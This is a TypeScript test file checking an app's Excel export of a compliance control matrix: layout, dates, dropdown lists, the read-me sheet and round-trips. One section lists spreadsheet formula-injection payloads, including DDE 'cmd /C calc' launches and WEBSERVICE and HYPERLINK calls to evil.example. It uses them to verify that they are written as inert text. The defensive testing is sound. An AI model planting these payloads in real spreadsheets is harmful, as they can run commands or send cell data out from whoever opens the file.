import type { Control } from '@shared/domain/control.ts';
import exceljs from 'exceljs';
import { SaxesParser } from 'saxes';
import { describe, expect, test } from 'vitest';
import { isKnownHead } from '../../../../../electron/engine/report/matrix/mapping.ts';
import { isOwnWorkbook, tableNotes } from '../../../../../electron/engine/report/matrix/notes.ts';
import { readTable } from '../../../../../electron/engine/report/matrix/read/table.ts';
import { openZip } from '../../../../../electron/engine/report/matrix/read/zip.ts';
import { visible } from '../../../../../electron/engine/report/writers/visible.ts';
import { hostile } from '../options.fixture.ts';
import { library, libraryControl } from './base.fixture.ts';
import { compareWorkbook, workbookOf } from './workbook.fixture.ts';

async function opened(bytes: Buffer): Promise<exceljs.Workbook> {
  const workbook = new exceljs.Workbook();
  // The types of exceljs know an older Buffer.
  await workbook.xlsx.load(new Uint8Array(bytes).buffer);
  return workbook;
}
const sheetOf = (workbook: exceljs.Workbook, name = 'Control matrix'): exceljs.Worksheet => {
  const sheet = workbook.getWorksheet(name);
  if (sheet === undefined) throw new Error(`There is no sheet ${name}.`);
  return sheet;
};
const headsOf = (sheet: exceljs.Worksheet): readonly string[] =>
  Array.from({ length: sheet.columnCount }, (_, at) => sheet.getRow(1).getCell(at + 1).text);

describe('the workbook of a control matrix', () => {
  test('has the same bytes when the same data is written twice', async () => {
    const first = await workbookOf();
    await new Promise((resolve) => setTimeout(resolve, 2100));
    expect((await workbookOf()).equals(first)).toBe(true);
  });

  test('has one head row on each table, frozen, filtered and repeated on paper, and merges nothing', async () => {
    const workbook = await opened(await workbookOf());
    expect(workbook.worksheets.map(({ name }) => name)).toEqual(['Read me', 'Control matrix', 'Criteria', 'Lists']);
    for (const sheet of workbook.worksheets.slice(1)) {
      expect(sheet.views[0], sheet.name).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(sheet.pageSetup.printTitlesRow, sheet.name).toBe('1:1');
      expect(String(sheet.autoFilter), sheet.name).toMatch(/^A1:/);
      expect(sheet.hasMerges, sheet.name).toBe(false);
      expect(
        headsOf(sheet).every((head) => head !== ''),
        sheet.name,
      ).toBe(true);
    }
  });

  test('writes ids as text and days as true dates, lists one a line', async () => {
    const controls = [
      { ...libraryControl('IAM-02'), effectiveFrom: '2026-03-01', effectiveTo: '2026-12-31', version: 2 },
    ];
    const sheet = sheetOf(await opened(await workbookOf(controls)));
    const cell = (head: string) => sheet.getRow(2).getCell(headsOf(sheet).indexOf(head) + 1);
    expect(cell('Control')).toMatchObject({ value: 'IAM-02', numFmt: '@' });
    expect(cell('Criteria').value).toBe('CC6.1\nCC6.3\nCC7.2');
    expect(cell('Effective from')).toMatchObject({ value: new Date('2026-03-01T00:00:00.000Z'), numFmt: 'yyyy-mm-dd' });
    expect(cell('Effective to').value).toEqual(new Date('2026-12-31T00:00:00.000Z'));
    expect([cell('Version').value, cell('Key or supporting').value]).toEqual([2, 'key']);
    expect(String(cell('Related: ISO/IEC 27001:2022').value)).toMatch(/^A\.5\.15, A\.5\.16, /);
  });

  test('offers the words of each list where they are chosen, below the last control too', async () => {
    const workbook = await opened(await workbookOf());
    const [sheet, lists] = [sheetOf(workbook), sheetOf(workbook, 'Lists')];
    const words = (head: string, row: number) => {
      const { formulae = [] } = sheet.getRow(row).getCell(headsOf(sheet).indexOf(head) + 1).dataValidation;
      const [, from, to] = /^Lists!\$B\$(\d+):\$B\$(\d+)$/.exec(String(formulae[0])) ?? [];
      return Array.from(
        { length: Number(to) - Number(from) + 1 },
        (_, at) => lists.getRow(Number(from) + at).getCell(2).text,
      );
    };
    expect(words('Type', 2)).toEqual(['preventive', 'detective', 'corrective']);
    expect(words('Target cadence', 90)).toContain('many-daily');
    expect(words('Status', 400)).toEqual(['in-place', 'planned', 'not-applicable']);
    expect(words('Key or supporting', 2)).toEqual(['key', 'supporting']);
    expect(words('Nature', 71)).toEqual(['manual', 'automated', 'hybrid']);
  });

  test('says whose matrix it is, from which engagement and log, and what each column means', async () => {
    const bytes = await workbookOf();
    const readMe = sheetOf(await opened(bytes), 'Read me');
    const text = readMe.getSheetValues().flat().join('\n');
    for (const words of [
      'Tidewater Payments',
      'Card payments',
      'Fieldwork 0.0.0-test',
      'ab'.repeat(32),
      'Readiness work, not an attestation.',
    ])
      expect(text).toContain(words);
    for (const head of headsOf(sheetOf(await opened(bytes)))) expect(text).toContain(head);
    const table = await readTable(bytes, isKnownHead);
    expect(isOwnWorkbook(table)).toBe(true);
    expect(tableNotes(table, '9fe32716-f014-49f2-ac64-52c4a9dc1c19')).toEqual([]);
    expect(tableNotes(table, 'another')).toHaveLength(1);
  });

  test('lists every criterion with its controls and whether it is in scope', async () => {
    const sheet = sheetOf(await opened(await workbookOf()), 'Criteria');
    expect(sheet.rowCount).toBe(62);
    const rows = new Map(sheet.getSheetValues().flatMap((row) => (Array.isArray(row) ? [[row[1], row]] : [])));
    expect(rows.get('CC6.4')).toMatchObject({ 4: 'yes' });
    expect(rows.get('P1.1')).toMatchObject({ 4: 'no' });
    expect(String(rows.get('CC6.1')?.[5])).toContain('IAM-02');
  });
});

const commands = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example","x")',
  'WEBSERVICE("http://evil.example/"&A1)',
  '1+1',
  'DDE("cmd","/C calc","x")',
];
const payloads: readonly string[] = [
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r='].flatMap((sign) =>
    commands.map((command) => sign + command),
  ),
  ...hostile.filter((text) => text.length < 1000),
].slice(0, 60);

const poisoned: readonly Control[] = payloads.map((text, at) => ({
  ...libraryControl('IAM-02'),
  ...{ id: `ZZ-${at}`, domain: text.slice(0, 40), title: text, statement: text, owner: text, performer: text },
  ...{ risk: text, population: text, evidence: [text, 'x'], testOfDesign: text, testOfOperation: [text], policy: text },
  ...{ status: 'not-applicable', reason: text },
}));

describe('texts that spreadsheets take for formulas', () => {
  test('60 of them in every column are written as text, in well-formed XML without a formula or a link', async () => {
    expect(payloads).toHaveLength(60);
    const bytes = await workbookOf(poisoned);
    const parts = await openZip(bytes);
    for (const name of [
      'xl/worksheets/sheet1.xml',
      'xl/worksheets/sheet2.xml',
      'xl/sharedStrings.xml',
      'xl/workbook.xml',
    ]) {
      const xml = (await parts.bytes(name)).toString();
      expect(() => new SaxesParser().write(xml).close(), name).not.toThrow();
      expect(xml, name).not.toMatch(/<f[ >]|<hyperlink/);
    }
    const sheet = sheetOf(await opened(bytes));
    expect(sheet.getRow(2).getCell(4)).toMatchObject({
      type: exceljs.ValueType.String,
      value: visible(payloads[0] ?? ''),
    });
  });

  test('come back unchanged', async () => {
    const { errors, changes, same } = await compareWorkbook(await workbookOf(poisoned), poisoned);
    expect([errors, changes, same]).toEqual([[], [], 60]);
  });
});

test('exported and read again, the whole library is unchanged', async () => {
  const compared = await compareWorkbook(await workbookOf());
  expect(compared).toMatchObject({ changes: [], edits: [], errors: [], same: library.length, notInFile: [] });
});

/** The workbook with cells set by hand, by head and row. */
async function edited(edits: readonly (readonly [row: number, head: string, value: exceljs.CellValue])[]) {
  const workbook = await opened(await workbookOf());
  const sheet = sheetOf(workbook);
  const heads = headsOf(sheet);
  for (const [row, head, value] of edits) sheet.getRow(row).getCell(heads.indexOf(head) + 1).value = value;
  return compareWorkbook(Buffer.from(await workbook.xlsx.writeBuffer()));
}

test('columns that are not edited must come back as they went', async () => {
  const { errors } = await edited([
    [2, 'Version', 7],
    [3, 'Checks', 'aws.nothing'],
    [4, 'Related: DORA', 'DORA-1'],
    [5, 'Effective from', new Date('2026-02-01T00:00:00Z')],
    [80, 'Control', 'NEW-01'],
    [80, 'Statement', 'New.'],
    [80, 'Title', 'New'],
    [80, 'Version', 1],
  ]);
  expect(errors.map(({ row, column, message }) => [row, column, message])).toEqual([
    [2, 'Version', 'Version is not edited here: the file says "7", the matrix "1".'],
    [3, 'Checks', 'Checks is not edited here: the file says "aws.nothing", the matrix "".'],
    [4, 'Related: DORA', expect.stringContaining('the file says "DORA-1", the matrix "')],
    [5, 'Effective from', 'Effective from is not edited here: the file says "2026-02-01", the matrix "".'],
    [80, 'Type', 'The cell is empty.'],
    [80, 'Nature', 'The cell is empty.'],
    [80, 'Declared frequency', 'The cell is empty.'],
    [80, 'Version', 'Version is not edited here.'],
  ]);
});

test('a row of our own workbook that lost its id is not taken for another control', async () => {
  const { errors } = await edited([[5, 'Control', null]]);
  expect(errors).toMatchObject([{ row: 5, column: 'Control', message: 'The row has no id.' }]);
});
